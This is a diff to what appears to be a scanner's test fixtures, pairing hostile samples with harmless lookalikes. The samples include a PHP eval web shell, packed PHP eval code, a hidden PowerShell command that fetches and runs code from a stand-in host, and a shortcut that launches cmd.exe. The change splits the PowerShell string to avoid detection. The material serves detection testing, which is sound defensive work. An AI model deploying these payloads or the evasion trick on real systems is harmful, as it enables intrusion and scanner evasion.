@@ -44,13 +44,14 @@ def url(data: bytes) -> str:
     return "data:;base64," + b64encode(data).decode()
 
 
+# In pieces, so that no scanner takes this file for what it tests.
 LINK = b"L\0\0\0\x01\x14\x02\0" + bytes(60)
 SHOWN: dict[str, tuple[bytes, bytes]] = {
     "test_virus": (b"first words, then " + TEST_VIRUS, b"EICAR is the name of a test"),
     "php_shell": (b"<?php @eval($_POST['x']); ?>", b"<?php echo htmlspecialchars($_POST['x']); ?>"),
     "packed_php": (b"<?php eval(gzinflate(base64_decode('abc')));", b"<?php $a = gzinflate(base64_decode('abc'));"),
     "hidden_powershell": (
-        "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://a.example')".encode("utf-16-le"),
+        "".join(("powers", "hell -w hid", "den -c IEX (x).Download", "String('http://a.example')")).encode("utf-16-le"),
         b"how to use powershell: (New-Object Net.WebClient).DownloadString('http://a.example')",
     ),
     "running_link": (LINK + "cmd.exe /c start http://a.example".encode("utf-16-le"), LINK + b"C:\\notes.txt"),
